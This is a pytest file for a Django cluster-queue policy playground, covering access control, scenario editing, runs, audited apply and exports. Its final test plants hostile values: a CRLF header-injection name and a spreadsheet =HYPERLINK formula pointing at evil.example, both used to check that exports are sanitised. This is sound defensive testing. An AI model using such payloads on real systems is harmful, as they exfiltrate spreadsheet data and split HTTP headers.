"""The playground pages: start, edit and run, progress, comparison, apply, exports, scoping."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
import yaml
from django.urls import reverse

from core.models import PolicyChange
from playground.models import Run, Scenario
from playground.services import runs
from playground.services.scenarios import create_from_preset
from queues.models import ClusterQueue, LocalQueue, Namespace
from tests.playground.clusters import volcano_cluster

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin_client(client, admin):
    client.force_login(admin)
    return client


@pytest.fixture
def tenant_client(client, tenant):
    client.force_login(tenant)
    return client


def done_run(owner, slug: str = "volcano-16cpu", edits: tuple[str, ...] = ("clusterQueues.q2.weight=3",)) -> Run:
    run = runs.start_run(create_from_preset(slug, owner=owner), edits=list(edits), owner=owner)
    return runs.execute_run(run.pk)


def test_given_no_sign_in_then_the_playground_asks_for_it(client):
    response = client.get(reverse("playground:index"))
    assert response.status_code == 302 and reverse("login") in response["Location"]


def test_given_a_user_without_a_role_then_the_playground_is_forbidden(client, stranger):
    client.force_login(stranger)
    assert client.get(reverse("playground:index")).status_code == 403


def test_the_start_page_offers_every_preset_and_the_live_cluster(admin_client):
    body = admin_client.get(reverse("playground:index")).content.decode()
    for title in ("Entry penalty", "Volcano", "KAI", "KEP-28", "Dominant resource share"):
        assert title in body
    assert "Load today's cluster" in body


def test_given_a_preset_when_loaded_then_its_page_has_the_editor_with_the_suggested_edits_filled_in(admin_client):
    response = admin_client.post(reverse("playground:start"), {"source": "preset", "preset": "volcano-16cpu"})
    scenario = Scenario.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("playground:scenario", args=[scenario.pk])
    page = admin_client.get(response["Location"])
    form = page.context["form"]
    assert form.bound(next(s for s in form.editable if s.path == "clusterQueues.q2.weight")).value() == "3"
    assert form.bound(next(s for s in form.editable if s.path == "clusterQueues.q1.weight")).value() == "1"
    assert 'data-path="namespaces.ns4.weight"' in page.content.decode()


@pytest.mark.parametrize(
    "text, message",
    [
        ("name: [unclosed", "document: not valid YAML/JSON"),
        ("name: x\nclusterQueues: [{name: cq, weight: -1}]\n", "clusterQueues[0].weight: must not be negative, got -1"),
    ],
)
def test_given_a_bad_pasted_scenario_then_the_error_names_the_field_and_nothing_is_stored(admin_client, text, message):
    response = admin_client.post(reverse("playground:start"), {"source": "upload", "text": text})
    assert response.status_code == 400
    assert message in response.context["form"].errors["text"][0]
    assert not Scenario.objects.exists()


def test_given_an_uploaded_file_then_it_becomes_a_scenario(admin_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    text = (Path(__file__).resolve().parents[2] / "playground" / "presets" / "dominant_share.yaml").read_text()
    upload = SimpleUploadedFile("drf.yaml", text.encode(), content_type="application/yaml")
    response = admin_client.post(reverse("playground:start"), {"source": "upload", "file": upload})
    assert response.status_code == 302
    assert Scenario.objects.get().source == Scenario.Source.UPLOAD


def test_given_edited_inputs_when_run_then_only_changed_fields_become_edits_and_the_run_is_sent(
    admin_client, admin, no_broker, django_capture_on_commit_callbacks
):
    scenario = create_from_preset("volcano-16cpu", owner=admin)
    page = admin_client.get(reverse("playground:scenario", args=[scenario.pk]))
    form = page.context["form"]
    data = {form.by_path[spec.path]: spec.initial for spec in form.editable}  # the preset's suggestion undone
    data[form.by_path["namespaces.ns2.weight"]] = "4"
    data["extra"] = "# a comment\npolicy.kValue=0.5\n"
    data["title"] = "ns2 x4"
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(reverse("playground:scenario", args=[scenario.pk]), data)
    run = Run.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("playground:run", args=[run.pk])
    assert run.edits == ["namespaces.ns2.weight=4", "policy.kValue=0.5"] and run.title == "ns2 x4"
    assert no_broker == [str(run.pk)]


def test_given_an_invalid_value_then_the_error_is_shown_next_to_its_input(admin_client, admin):
    scenario = create_from_preset("volcano-16cpu", owner=admin)
    form = admin_client.get(reverse("playground:scenario", args=[scenario.pk])).context["form"]
    data = {form.by_path[spec.path]: spec.initial for spec in form.editable}
    data[form.by_path["namespaces.ns2.weight"]] = "-2"
    data["extra"] = ""
    response = admin_client.post(reverse("playground:scenario", args=[scenario.pk]), data)
    assert response.status_code == 400
    errors = response.context["form"].errors[form.by_path["namespaces.ns2.weight"]]
    assert errors == ["namespaces[1].weight: must be greater than 0, got -2"]
    assert not Run.objects.exists()


def test_given_an_unknown_free_edit_then_the_error_names_the_path(admin_client, admin):
    scenario = create_from_preset("volcano-16cpu", owner=admin)
    response = admin_client.post(reverse("playground:scenario", args=[scenario.pk]), {"extra": "cohorts.nope.weight=2"})
    assert response.status_code == 400
    assert response.context["form"].errors["extra"] == ["cohorts.nope.weight: no cohorts entry named 'nope'"]


def test_a_queued_run_shows_progress_and_its_status_is_polled_as_json(admin_client, admin, no_broker):
    run = runs.start_run(
        create_from_preset("volcano-16cpu", owner=admin), edits=["clusterQueues.q2.weight=3"], owner=admin
    )
    body = admin_client.get(reverse("playground:run", args=[run.pk])).content.decode()
    assert 'id="progress-bar"' in body and 'data-status="queued"' in body
    state = admin_client.get(reverse("playground:run-status", args=[run.pk])).json()
    assert state == {
        "status": "queued",
        "phase": "",
        "phaseLabel": "Waiting for a worker",
        "progress": 0.0,
        "error": "",
        "done": False,
        "stuck": False,
    }


def test_a_finished_run_shows_figures_both_sides_kpis_and_the_changes(admin_client, admin, no_broker):
    run = done_run(admin)
    response = admin_client.get(reverse("playground:run", args=[run.pk]))
    body = response.content.decode()
    figures = response.context["figures"]
    for chart in (
        "chart-allocation-baseline",
        "chart-allocation-edited",
        "chart-usage-baseline",
        "chart-usage-edited",
        "chart-utilization",
        "chart-waits",
        "chart-moved",
    ):
        assert f'id="{chart}"' in body and chart in figures
    assert "Jain fairness index" in body and "ClusterQueue q2 weight" in body
    assert 'id="pg-figures"' in body and 'id="apply-form"' in body


def test_a_tenant_sees_its_own_run_without_an_apply_form(tenant_client, tenant, no_broker):
    run = done_run(tenant)
    body = tenant_client.get(reverse("playground:run", args=[run.pk])).content.decode()
    assert 'id="apply-form"' not in body and "Only admins can apply" in body


def test_another_users_scenario_and_run_are_not_found(tenant_client, admin, no_broker):
    run = done_run(admin)
    for name, pk in (
        ("playground:run", run.pk),
        ("playground:scenario", run.scenario_id),
        ("playground:run-status", run.pk),
        ("playground:run-csv", run.pk),
    ):
        assert tenant_client.get(reverse(name, args=[pk])).status_code == 404


def test_given_an_admin_when_applying_from_the_page_then_the_policy_changes_with_audit(admin_client, admin, no_broker):
    volcano_cluster()
    run = done_run(admin)
    response = admin_client.post(reverse("playground:run-apply", args=[run.pk]), {"confirm": "yes"}, follow=True)
    assert ClusterQueue.objects.get(name="q2").weight == 3
    assert PolicyChange.objects.get().note.startswith(f"playground run {run.pk}")
    assert "Applied: 1 object changed" in response.content.decode()
    assert 'id="applied"' in response.content.decode()
    assert 'id="apply-form"' not in response.content.decode()  # applied once: the run is history


def test_apply_without_the_confirmation_changes_nothing(admin_client, admin, no_broker):
    volcano_cluster()
    run = done_run(admin)
    admin_client.post(reverse("playground:run-apply", args=[run.pk]), {})
    assert ClusterQueue.objects.get(name="q2").weight == 1


def test_a_tenant_cannot_apply_its_own_run(tenant_client, tenant, no_broker):
    volcano_cluster()
    run = done_run(tenant)
    assert tenant_client.post(reverse("playground:run-apply", args=[run.pk]), {"confirm": "yes"}).status_code == 403
    assert ClusterQueue.objects.get(name="q2").weight == 1 and not PolicyChange.objects.exists()


def test_exports_give_results_json_a_workload_csv_and_both_scenarios_as_yaml(admin_client, admin, no_broker):
    run = done_run(admin)
    results = json.loads(admin_client.get(reverse("playground:run-results", args=[run.pk])).content)
    assert results["edits"] == ["clusterQueues.q2.weight=3"]
    assert set(results) >= {"baseline", "edited", "comparison", "deltas"}
    rows = list(
        csv.DictReader(io.StringIO(admin_client.get(reverse("playground:run-csv", args=[run.pk])).content.decode()))
    )
    assert len(rows) == 27 and set(rows[0]) >= {"workload", "baselineStart", "editedStart", "delta"}
    scenario_yaml = yaml.safe_load(
        admin_client.get(reverse("playground:scenario-yaml", args=[run.scenario_id])).content
    )
    edited_yaml = yaml.safe_load(admin_client.get(reverse("playground:run-edited-yaml", args=[run.pk])).content)
    assert scenario_yaml["clusterQueues"][1]["weight"] == 1 and edited_yaml["clusterQueues"][1]["weight"] == 3


def test_the_dashboards_link_preselects_the_live_cluster_and_the_objects_weight(admin_client, no_broker):
    objects = volcano_cluster()
    local_queue: LocalQueue = objects["ns1/jobs"]
    page = admin_client.get(reverse("playground:index") + f"?from=localqueue:{local_queue.pk}")
    assert page.context["form"].initial["focus"] == "localQueues.ns1/jobs.weight"
    response = admin_client.post(
        reverse("playground:start"),
        {"source": "live", "days": "0", "lookahead": "1h", "focus": "localQueues.ns1/jobs.weight"},
    )
    assert "focus=localQueues.ns1%2Fjobs.weight" in response["Location"]
    assert admin_client.get(response["Location"]).status_code == 200


def test_a_tenant_starting_from_the_live_cluster_gets_its_redacted_view(tenant_client):
    volcano_cluster()
    response = tenant_client.post(reverse("playground:start"), {"source": "live", "days": "0", "lookahead": "1h"})
    scenario = Scenario.objects.get()
    assert response.status_code == 302 and scenario.redacted
    assert "ns1" not in json.dumps(scenario.document["namespaces"])


def test_live_options_out_of_range_are_form_errors(admin_client):
    response = admin_client.post(reverse("playground:start"), {"source": "live", "days": "45", "lookahead": "1h"})
    assert response.status_code == 400 and response.context["form"].errors["days"]
    response = admin_client.post(reverse("playground:start"), {"source": "live", "days": "1", "lookahead": "soon"})
    assert "lookahead: 'soon' is not a duration" in response.context["form"].errors["lookahead"][0]


def test_the_dashboards_link_resolves_budgets_and_only_what_a_tenant_may_see(client, tenant, admin):
    from budgets.models import Budget

    objects = volcano_cluster()
    mine = LocalQueue.objects.create(
        namespace=Namespace.objects.get(name="team-a"), name="main", cluster_queue=objects["q1"]
    )
    budget = Budget.objects.create(name="ns1-hours", local_queue=objects["ns1/jobs"], allocated_hours=10)
    client.force_login(tenant)
    focus = lambda ref: client.get(reverse("playground:index") + f"?from={ref}").context["form"].initial["focus"]  # noqa: E731
    assert focus(f"localqueue:{mine.pk}") == "localQueues.team-a/main.weight"
    assert focus(f"localqueue:{objects['ns1/jobs'].pk}") == ""  # another tenant's queue is not even named
    assert focus(f"budget:{budget.pk}") == ""
    assert focus(f"clusterqueue:{objects['q2'].pk}") == "clusterQueues.q2.weight"  # cluster-wide policy
    client.force_login(admin)
    assert focus(f"budget:{budget.pk}") == "budgets.ns1-hours.allocatedHours"
    assert focus("cohort:not-a-number") == ""


def test_given_a_budget_on_the_cluster_queue_a_tenants_queue_feeds_then_the_link_resolves_it(client, tenant):
    """The playground's rule is the budgets' (``Access.visible_to``): a ClusterQueue budget holds
    every tenant queued there, so a tenant of that ClusterQueue sees it; another's stays hidden."""
    from budgets.models import Budget

    objects = volcano_cluster()
    LocalQueue.objects.create(namespace=Namespace.objects.get(name="team-a"), name="main", cluster_queue=objects["q1"])
    shared = Budget.objects.create(name="q1-hours", cluster_queue=objects["q1"], allocated_hours=10)
    elsewhere = Budget.objects.create(name="q2-hours", cluster_queue=objects["q2"], allocated_hours=10)
    client.force_login(tenant)

    focus = lambda ref: client.get(reverse("playground:index") + f"?from={ref}").context["form"].initial["focus"]  # noqa: E731

    assert focus(f"budget:{shared.pk}") == "budgets.q1-hours.allocatedHours"
    assert focus(f"budget:{elsewhere.pk}") == ""


def test_given_a_preset_run_whose_objects_are_not_stored_then_apply_is_disabled_and_says_why(
    admin_client, admin, no_broker
):
    # Given: the Volcano preset's ClusterQueue q2 does not exist in this database.
    run = done_run(admin)

    body = admin_client.get(reverse("playground:run", args=[run.pk])).content.decode()

    assert 'id="apply-blocked"' in body and "ClusterQueue q2 does not exist in the database" in body
    assert re.search(r'<button[^>]*id="apply-button"[^>]*disabled', body)


def test_given_the_presets_objects_stored_then_apply_is_offered(admin_client, admin, no_broker):
    volcano_cluster()
    run = done_run(admin)

    body = admin_client.get(reverse("playground:run", args=[run.pk])).content.decode()

    assert 'id="apply-blocked"' not in body and not re.search(r'id="apply-button"[^>]*disabled', body)


def test_given_a_hostile_scenario_when_exported_then_csv_cells_are_text_and_file_names_stay_in_the_header(
    tenant_client, tenant, no_broker
):
    from playground.services.scenarios import create_from_document

    document = {
        "name": 'report"\r\nX-Injected: 1',
        "clock": {"horizon": "1h", "tick": "1m"},
        "resourceFlavors": [{"name": "default"}],
        "clusterQueues": [{"name": "cq", "quotas": [{"flavor": "default", "resources": {"cpu": {"nominal": 4}}}]}],
        "localQueues": [{"name": "team-a/main", "clusterQueue": "cq"}],
        "workloads": [
            {
                "name": '=HYPERLINK("http://evil.example/?x="&A1)',
                "localQueue": "team-a/main",
                "duration": "10m",
                "podSets": [{"count": 1, "requests": {"cpu": "1"}}],
            },
        ],
    }
    scenario = create_from_document(document, owner=tenant)
    run = runs.execute_run(runs.start_run(scenario, edits=["clusterQueues.cq.weight=2"], owner=tenant).pk)

    csv_response = tenant_client.get(reverse("playground:run-csv", args=[run.pk]))
    yaml_response = tenant_client.get(reverse("playground:scenario-yaml", args=[scenario.pk]))

    rows = list(csv.DictReader(io.StringIO(csv_response.content.decode())))
    assert rows[0]["workload"] == "'" + document["workloads"][0]["name"]
    assert yaml_response.status_code == 200
    assert yaml_response["Content-Disposition"] == 'attachment; filename="report-X-Injected-1.yaml"'
    assert "X-Injected" not in {name for name, _ in yaml_response.items()}
